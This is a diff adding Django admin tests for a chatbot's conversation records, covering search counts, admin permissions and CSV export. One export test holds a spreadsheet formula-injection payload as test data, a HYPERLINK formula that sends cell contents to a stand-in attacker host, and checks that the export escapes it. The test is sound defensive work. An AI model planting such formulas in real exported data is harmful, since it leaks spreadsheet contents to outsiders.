@@ -90,6 +90,7 @@ def test_conversations_are_searchable_by_text_and_filterable_by_status(
     closed = admin_client.get(url, {"status__exact": "closed"})
 
     assert found.context["cl"].result_count == 1
+    assert found.context["cl"].result_list[0]._messages == 2  # not once per matching message
     assert missed.context["cl"].result_count == 0
     assert closed.context["cl"].result_count == 1
     assert [c.status for c in closed.context["cl"].result_list] == ["closed"]
@@ -225,3 +226,34 @@ def test_a_conversation_opens_by_the_id_the_widget_shows(
     assert by_uuid.context["original"].pk == conversation.pk
     unknown = admin_client.get(f"/admin/chatbot/conversation/{uuid.uuid4()}/change/")
     assert unknown.status_code == 302  # "does not exist", as for an unknown key
+
+
+def test_conversations_start_with_customers_and_their_rating_is_theirs(
+    admin_client: Client, conversation
+) -> None:
+    add = admin_client.get(reverse("admin:chatbot_conversation_add"))
+    page = admin_client.get(reverse("admin:chatbot_conversation_change", args=[conversation.pk]))
+
+    assert add.status_code == 403
+    assert "rating" not in page.context["adminform"].form.fields
+
+
+def test_a_customers_formula_is_exported_as_text(admin_client: Client, conversation) -> None:
+    # given: a customer who writes a spreadsheet formula
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")'
+    Message.objects.create(conversation=conversation, role="customer", text=formula)
+    Message.objects.create(conversation=conversation, role="customer", text=" +1 what?")
+
+    # when
+    response = admin_client.post(
+        reverse("admin:chatbot_conversation_changelist"),
+        {"action": "export_csv", "_selected_action": [conversation.pk]},
+    )
+
+    # then: each such cell starts with a quote, which a spreadsheet shows instead of running
+    import csv
+    import io
+
+    texts = [row["text"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
+    assert "'" + formula in texts and "' +1 what?" in texts
+    assert "Where is my blue teapot?" in texts
